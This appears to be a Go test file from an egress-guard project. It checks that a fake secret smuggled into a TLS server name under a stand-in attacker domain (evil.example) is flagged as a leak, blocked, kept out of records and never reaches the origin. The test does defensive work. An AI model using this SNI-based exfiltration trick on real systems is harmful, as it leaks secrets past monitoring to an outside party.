package egress

import (
	"io"
	"net"
	"strings"
	"sync"
	"testing"

	"go.cordon.dev/cordon/guard/egress/policy"
)

// The name that TLS tells within a tunnel to an address goes to the origin: a secret
// there does not, in any mode, and stands in no record.
func TestSecretsInTheNameThatTLSTells(t *testing.T) {
	for _, mode := range []string{"strict", "audit"} {
		t.Run(mode, func(t *testing.T) {
			w, _ := inspected(t, "mode: "+mode+"\nallowlist: {rules: [{host: 203.0.113.9}]}\n")
			var mu sync.Mutex
			var got strings.Builder
			w.route("203.0.113.9:443", listen(t, func(c net.Conn) {
				b, _ := io.ReadAll(c)
				mu.Lock()
				defer mu.Unlock()
				got.Write(b)
			}).addr)
			secret := fake(t)
			c := w.connect()
			inTunnel(c, "203.0.113.9", 443)
			sends(helloFor(secret + ".evil.example"))(c)
			eventually(t, "the decision", func() bool { return len(w.decisions()) > 0 })
			d := w.decisions()[0]
			if d.Decision.Reason != policy.ReasonLeak || d.Decision.Allowed() || len(d.Findings) != 1 || strings.Contains(d.Decision.Detail, secret) {
				t.Errorf("%+v, %d findings", d.Decision, len(d.Findings))
			}
			mu.Lock()
			defer mu.Unlock()
			if strings.Contains(got.String(), secret) {
				t.Error("the origin was told")
			}
		})
	}
}
